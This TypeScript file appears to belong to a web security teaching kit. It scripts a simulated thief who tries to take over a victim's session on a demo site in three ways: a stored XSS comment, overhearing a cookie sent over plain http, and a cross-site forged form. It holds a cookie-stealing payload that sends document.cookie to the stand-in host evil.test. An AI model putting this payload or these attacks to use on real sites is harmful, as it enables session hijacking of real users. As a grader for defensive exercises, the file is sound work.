import { attack, type AttackScene } from "../kit/grader/attack.ts";
import { header } from "../kit/browser/browser.ts";

type WayIn = (scene: AttackScene) => Promise<string | undefined>;

/** The thief opens the dashboard with another user's Cookie header. */
async function dashboardWith(cookie: string, { thief }: AttackScene): Promise<string | undefined> {
  if (cookie === "") return undefined;
  const page = await thief.get("/dashboard", { headers: { cookie } });
  return page.response.status === 200 ? page.response.body : undefined;
}

const SCRIPT = '<script>fetch("https://evil.test/?" + document.cookie)</script>';

// #region script
const script: WayIn = async (scene) => {
  const { thief, victim, say } = scene;
  say("The thief, logged in as bob, posts a comment that holds a script.");
  await thief.post("/comments", { text: SCRIPT });
  say("The victim opens the comments.");
  const page = await victim.get("/comments");
  const runs = page.response.body.includes(SCRIPT);
  const read = runs ? victim.documentCookie("/comments") : "";
  say(
    runs
      ? `The script runs in her browser and reads "${read}".`
      : "The page prints the script as text. It does not run.",
  );
  return dashboardWith(read, scene);
};
// #endregion

// #region listener
const listener: WayIn = async (scene) => {
  scene.say("The victim follows an old link to the site over plain http. The thief listens.");
  const { request } = await scene.victim.get("/", { scheme: "http:" });
  const overheard = header(request, "cookie");
  scene.say(overheard ? `He reads the Cookie header "${overheard}".` : "He sees a request without a cookie.");
  return dashboardWith(overheard, scene);
};
// #endregion

// #region form
const form: WayIn = async ({ thief, victim, say }) => {
  say("The victim visits the thief's own page. A form on this page sends itself to the site by POST.");
  await victim.post("/comments", { text: "hello", attach: "note" }, { from: "cross-site" });
  say("The thief reads the comments.");
  return (await thief.get("/comments")).response.body;
};
// #endregion

export default attack(
  "an attack by script, network or forged form",
  "The thief does not guess the ID: the browser gives it to him, or uses it for him.",
  async (scene) => {
    await scene.thief.login("bob", "builder");
    await scene.victim.login();
    return (await script(scene)) ?? (await listener(scene)) ?? form(scene);
  },
);
